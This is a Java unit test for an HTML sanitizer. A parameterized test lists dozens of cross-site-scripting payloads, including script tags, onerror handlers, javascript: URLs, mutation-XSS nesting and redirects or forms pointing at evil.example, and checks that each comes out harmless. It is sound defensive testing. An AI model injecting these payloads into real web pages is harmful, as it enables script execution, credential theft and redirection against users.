package dev.gatehouse.web.markup;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;

import dev.gatehouse.portal.reference.api.KnownReferences;
import dev.gatehouse.web.markup.Rendered.Heading;
import java.time.Duration;
import java.util.List;
import java.util.Locale;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class MarkupSanitizerTest {
  private static final LinkContext CONTEXT = new LinkContext("o", "r", "main", "d");
  private static final Deadline DEADLINE = Deadline.after(Duration.ofHours(1));

  @ParameterizedTest
  @ValueSource(
      strings = {
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<img src=x onerror=alert(1)>",
        "<img src=\"x\"onerror=alert(1)>",
        "<img/src=x/onerror=alert(1)//",
        "<svg onload=alert(1)><use href=\"data:image/svg+xml,x#x\"/></svg>",
        "<svg><style><img src=x onerror=alert(1)></style></svg>",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
        "<a href=\" &#14; javascript:alert(1)\">x</a>",
        "<a href=\"data:text/html;base64,PHNjcmlwdD4=\">x</a>",
        "<a href=\"vbscript:x\" xlink:href=\"javascript:x\">x</a>",
        "<img src=\"data:image/svg+xml,<svg onload=alert(1)>\">",
        "<iframe src=\"javascript:alert(1)\" srcdoc=\"<script>alert(1)</script>\"></iframe>",
        "<object data=\"x.swf\"></object><embed src=x><applet code=x></applet>",
        "<style>*{background:url(javascript:x)}</style><link rel=stylesheet href=//evil.example>",
        "<p style=\"position:fixed;inset:0;background:url(//evil.example)\">x</p>",
        "<base href=\"//evil.example/\"><meta http-equiv=refresh content=\"0;url=//evil.example\">",
        "<form action=\"//evil.example\"><input name=password><button>x</button></form>",
        "<input type=text onfocus=alert(1) autofocus><textarea><script>x</script></textarea>",
        "<select><option>x</option></select><isindex><keygen>",
        "<video src=x onerror=alert(1)><source onerror=alert(1)></video><audio src=x></audio>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
        "<template><script>alert(1)</script></template><xmp><script>x</script></xmp>",
        "<plaintext><script>alert(1)</script>",
        "<!--[if IE]><script>alert(1)</script><![endif]--><!--><img src=x onerror=alert(1)>-->",
        "<![CDATA[<script>alert(1)</script>]]><?xml version=1?><!DOCTYPE x [<!ENTITY y \"z\">]>",
        "<p id=\"location\" name=\"cookie\" class=\"fixed-overlay btn\">x</p>",
        "</div></div></body></html><p>x",
        "<a href=\"https://example.org\" target=_blank rel=opener>x</a>",
        "<table><tr><td><script>x</script><tr><td background=javascript:x>y",
        "\0<\0script>alert(1)</script>",
        "<a href='x\"onmouseover=alert(1) y'>x</a>",
        "<details open ontoggle=alert(1)><summary>x</summary>y</details>",
        "<img srcset=\"//evil.example/x 1x\" lowsrc=javascript:x dynsrc=x src=x>",
        "{{constructor.constructor('alert(1)')()}}"
      })
  void hostileHtmlIsHarmless(String html) {
    SafeHtml safe = sanitize(html);
    HarmlessHtml.check(safe);
    assertFalse(safe.toString().toLowerCase(Locale.ROOT).contains("<script"));
  }

  @Test
  void idsAndFragmentsAreKeptApartFromThePages() {
    assertEquals(
        "<p id=\"user-content-header\"><a href=\"#user-content-header\">x</a>"
            + "<a id=\"user-content-old\">y</a></p>",
        html("<p id=header><a href='#header'>x</a><a name=old>y</a></p>"));
  }

  @Test
  void linksOutsideAreNotFollowedByRobotsAndGetNoHandle() {
    assertEquals(
        "<a href=\"https://example.org/\" rel=\"nofollow noopener\">x</a>"
            + "<a href=\"/o/r/blob/main/d/y.md\">y</a>",
        html("<a href='https://example.org/' rel=me>x</a><a href='y.md'>y</a>"));
  }

  @Test
  void imagesAreRawLazyAndHaveAnAlternative() {
    assertEquals(
        "<img src=\"/o/r/raw/main/d/x.png\" width=\"20\" alt=\"\" loading=\"lazy\""
            + " referrerpolicy=\"no-referrer\" />",
        html("<img src=x.png width=20 height=javascript:x>"));
  }

  @Test
  void checkboxesCannotBeClickedAndOtherInputsGo() {
    assertEquals(
        "<input type=\"checkbox\" checked=\"checked\" disabled=\"disabled\" aria-label=\"Done\" />"
            + "<input type=\"checkbox\" disabled=\"disabled\" aria-label=\"To do\" />",
        html("<input type=checkbox checked><input type=checkbox><input type=text><input>"));
  }

  @Test
  void onlyKnownClassesStay() {
    assertEquals(
        "<div class=\"admonition note\">x</div><code class=\"language-c#\">y</code>",
        html(
            "<div class='admonition modal note'>x</div><code class='language-c# hidden'>y</code>"));
  }

  @Test
  void landmarksBecomeOrdinaryElements() {
    assertEquals(
        "<section><div>a</div><div>b</div><div>c</div></section>",
        html("<main><nav role=navigation>a</nav><aside>b</aside><footer>c</footer></main>"));
  }

  @Test
  void theOutlineGoesByTheHeadingOrItsSection() {
    assertEquals(
        List.of(
            new Heading(1, "user-content-t", "T & co"),
            new Heading(2, "user-content-s", "S code"),
            new Heading(3, "user-content-h", "H"),
            new Heading(3, "", "I")),
        MarkupSanitizer.sanitize(
                "<main id=t><h1>T &amp; co</h1><section id=s><span id=alias></span>"
                    + "<h2>S\n <code>code</code></h2><h3 id=h>H</h3><h3>I</h3></section></main>",
                CONTEXT,
                KnownReferences.NONE,
                DEADLINE)
            .outline());
  }

  @Test
  void elementsNestedWithoutEndAreCutOff() {
    HarmlessHtml.check(sanitize("<div>".repeat(5_000) + "x"));
    HarmlessHtml.check(sanitize("<b><i><u>".repeat(5_000) + "x"));
    HarmlessHtml.check(sanitize("<table><tr><td>".repeat(5_000) + "x"));
  }

  private static SafeHtml sanitize(String html) {
    return MarkupSanitizer.sanitize(html, CONTEXT, KnownReferences.NONE, DEADLINE).html();
  }

  private static String html(String html) {
    SafeHtml safe = sanitize(html);
    HarmlessHtml.check(safe);
    return safe.toString();
  }
}
